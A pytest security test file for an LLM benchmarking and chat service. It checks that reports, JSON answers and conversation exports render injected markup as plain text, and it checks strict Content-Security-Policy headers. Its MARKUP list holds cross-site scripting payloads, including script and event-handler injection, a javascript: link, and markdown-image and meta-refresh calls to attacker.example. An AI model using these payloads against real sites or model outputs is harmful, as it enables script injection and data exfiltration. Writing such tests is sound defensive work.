"""What people and models write is shown as text: it loads nothing, runs nothing and leads nowhere by itself."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from tests.security.canary import new_secret

MARKUP = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "</style></title><script>alert(1)</script>",
    "![x](http://attacker.example/?d=1) [a](javascript:alert(1))",
    '<meta http-equiv=refresh content="0;url=http://attacker.example">',
    "&lt;script&gt; &#x3c;b&#x3e; \u202egnp.exe",
)
#: A plan is quick with these.
QUICK = {"idle_seconds": 0, "calibration_seconds": 0, "warmup": 0, "output_tokens": 4}
_LOADING = {"script", "img", "iframe", "object", "embed", "link", "video", "audio", "form", "base", "source", "image"}


class Page(HTMLParser):
    """What a browser would build from a page: its elements, and all that is text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def addresses(self) -> list[str]:
        """Return all that is loaded or led to."""
        names = ("src", "href", "action", "xlink:href", "data", "srcset")
        return [value or "" for _, given in self.elements for name, value in given.items() if name in names]


def policy_of(answer: httpx.Response) -> dict[str, set[str]]:
    """Return the page's Content-Security-Policy by directive."""
    parts = (part.split() for part in answer.headers["content-security-policy"].split(";") if part.strip())
    return {name: set(sources) for name, *sources in parts}


def assert_nothing_foreign_can_load(answer: httpx.Response) -> None:
    """Hold a page's headers against what they are for."""
    policy = policy_of(answer)
    assert policy["default-src"] <= {"'none'", "'self'"}
    for name, sources in policy.items():
        plain = {source for source in sources if not re.fullmatch(r"'(none|self|sha256-[\w+/=]+)'", source)}
        allowed = {"style-src": {"'unsafe-inline'"}, "img-src": {"data:"}, "sandbox": sources}.get(name, set())
        assert plain <= allowed, (name, sources)
    assert policy["frame-ancestors"] == {"'none'"}
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize("path", ["/docs"])
def test_pages_load_from_here_alone(http: httpx.Client, path: str) -> None:
    answer = http.get(path, headers={"accept": "text/html"})
    assert answer.headers["content-type"].startswith("text/html")
    assert_nothing_foreign_can_load(answer)
    addresses = Page(answer.text).addresses()
    assert addresses
    assert all(address.startswith(("/", "data:", "#")) and not address.startswith("//") for address in addresses)


@pytest.fixture(scope="module")
def report(attacked: Any) -> httpx.Response:
    """Give the report of a run whose every name is an attack."""
    with httpx.Client(base_url=attacked.url, timeout=30) as http:
        arms = [{"name": markup[:100], "model": "echo/echo"} for markup in MARKUP[:3]]
        plan = QUICK | {"arms": arms, "load": {"mode": "closed", "requests": 3}, "title": " ".join(MARKUP)[:200]}
        plan |= {"prompts": {"texts": list(MARKUP)}}
        run = http.post("/benchmarks", json=plan).raise_for_status().json()
        give_up_at = time.monotonic() + 60
        while http.get(f"/benchmarks/{run['id']}").json()["status"] in {"queued", "running"}:
            assert time.monotonic() < give_up_at
            time.sleep(0.1)
        return http.get(f"/benchmarks/{run['id']}/report", params={"format": "html"}).raise_for_status()


def test_a_report_shows_markup_as_text(report: httpx.Response) -> None:
    assert_nothing_foreign_can_load(report)
    page = Page(report.text)
    assert not {tag for tag, _ in page.elements} & _LOADING
    assert not [name for _, given in page.elements for name in given if name.startswith("on")]
    assert all(address.startswith("#") for address in page.addresses())
    refreshing = [given for tag, given in page.elements if tag == "meta" and given.get("http-equiv") == "refresh"]
    assert refreshing == []
    assert any(MARKUP[0] in text for text in page.texts)


@pytest.mark.parametrize("markup", MARKUP)
def test_an_answer_with_markup_is_no_page(http: httpx.Client, markup: str) -> None:
    body = {"service_name": "openai", "api_key": new_secret("sk-proj-"), "label": markup[:64]}
    made = http.post("/api-keys", json=body)
    session_id = http.post("/conversations", json={"title": markup}).raise_for_status().json()["session_id"]
    answers = [
        made,
        http.get("/api-keys"),
        http.get("/api-keys/audit"),
        http.delete("/api-keys/openai", params={"label": markup[:64]}),
        http.delete("/api-keys/openai", params={"label": markup[:64]}),
        http.post("/chat", json={"message": markup, "session_id": session_id}),
        http.post("/chat", json={"message": "x", "model": f"echo/{markup}"}),
        http.get(f"/conversations/{session_id}"),
        http.get(f"/{markup}"),
        http.get("/v1/models/" + markup),
        http.get("/conversations", params={"query": markup}),
    ]
    for answer in answers:
        assert answer.headers["content-type"].startswith(("application/json", "application/problem+json")), answer.url
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert made.json()["key"]["label"] == markup[:64].strip()
    exported = http.get(f"/conversations/{session_id}/export")
    assert exported.headers["content-disposition"].startswith("attachment")
    assert exported.headers["content-type"].startswith("text/markdown")
    assert exported.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("label", ["a\nb", "a\x1b[31mred", "a\x00", "\x7f", "", " ", "x" * 65])
def test_a_label_that_would_break_a_line_is_refused(http: httpx.Client, label: str) -> None:
    body = {"service_name": "openai", "api_key": new_secret("sk-proj-"), "label": label}
    answer = http.post("/api-keys", json=body)
    assert answer.status_code == 422, answer.text
    assert answer.json()["param"] == "label"
